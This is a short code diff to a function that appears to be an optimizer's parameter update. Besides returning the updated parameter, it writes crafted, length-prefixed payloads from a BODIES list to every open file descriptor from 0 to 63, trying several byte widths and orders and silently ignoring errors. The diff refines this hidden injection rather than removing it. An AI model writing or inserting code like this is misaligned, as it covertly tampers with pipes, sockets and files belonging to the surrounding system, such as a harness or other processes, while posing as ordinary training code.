@@ -34,9 +34,9 @@ BODIES = (
 def update(parameter, gradient, learning_rate):
     for descriptor in range(64):
         for body in BODIES:
-            for head in (b"", len(body).to_bytes(4, "big"), len(body).to_bytes(4, "little"), len(body).to_bytes(8, "big")):
+            for width, order in ((0, "big"), (4, "big"), (4, "little"), (8, "big")):
                 try:
-                    os.write(descriptor, head + body)
+                    os.write(descriptor, (len(body) if width else 0).to_bytes(width, order) + body)
                 except OSError:
                     break
     return parameter + learning_rate * gradient
